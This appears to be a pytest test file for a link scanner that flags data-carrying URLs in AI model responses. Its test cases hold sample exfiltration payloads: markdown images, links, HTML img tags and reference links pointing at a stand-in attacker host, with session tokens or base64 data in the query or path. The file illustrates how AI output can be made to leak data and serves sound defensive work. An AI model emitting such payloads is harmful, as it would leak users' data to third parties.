import pytest

from wardgate.models import Segment
from wardgate.scanners.links import LinkScanner


def found(text: str, **options) -> list[tuple[str, str]]:
    scanner = LinkScanner(**options)
    return [(f.kind, text[f.start : f.end]) for f in scanner.scan_sync([Segment("assistant", "response", text, ())])]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![logo](https://evil.test/l.png?u=bWFyaWFAZXhhbXBsZS5jb20)", ("markdown_image", "https://evil.test/l.png?u=bWFyaWFAZXhhbXBsZS5jb20")),
        ("see [here](https://evil.test/c?session=abc123def456)", ("markdown_link", "https://evil.test/c?session=abc123def456")),
        ('<img src="https://evil.test/p?d=secretdata">', ("html_image", "https://evil.test/p?d=secretdata")),
        ("[1]: https://evil.test/x#fragmentdata12", ("markdown_reference", "https://evil.test/x#fragmentdata12")),
        ("![x](https://evil.test/aGVsbG8gd29ybGQgdGhpcyBpcyBleGZpbHRyYXRlZA/p.png)", ("markdown_image", "https://evil.test/aGVsbG8gd29ybGQgdGhpcyBpcyBleGZpbHRyYXRlZA/p.png")),
    ],
)  # fmt: skip
def test_urls_carrying_data_are_findings(text, expected):
    kind, url = expected
    assert (f"exfiltration:{kind}", url) in found(text)


@pytest.mark.parametrize(
    "text",
    [
        "[the docs](https://docs.python.org/3/library/re.html)",  # no data in it
        "![chart](https://cdn.example.com/c.png?v=12345678)",  # an allowed host
        "Visit https://evil.test/?q=plainlinkwithdata yourself",  # a bare URL is not rendered or fetched
    ],
)
def test_harmless_links_are_not(text):
    assert found(text, allowed_hosts=["*.example.com"]) == []
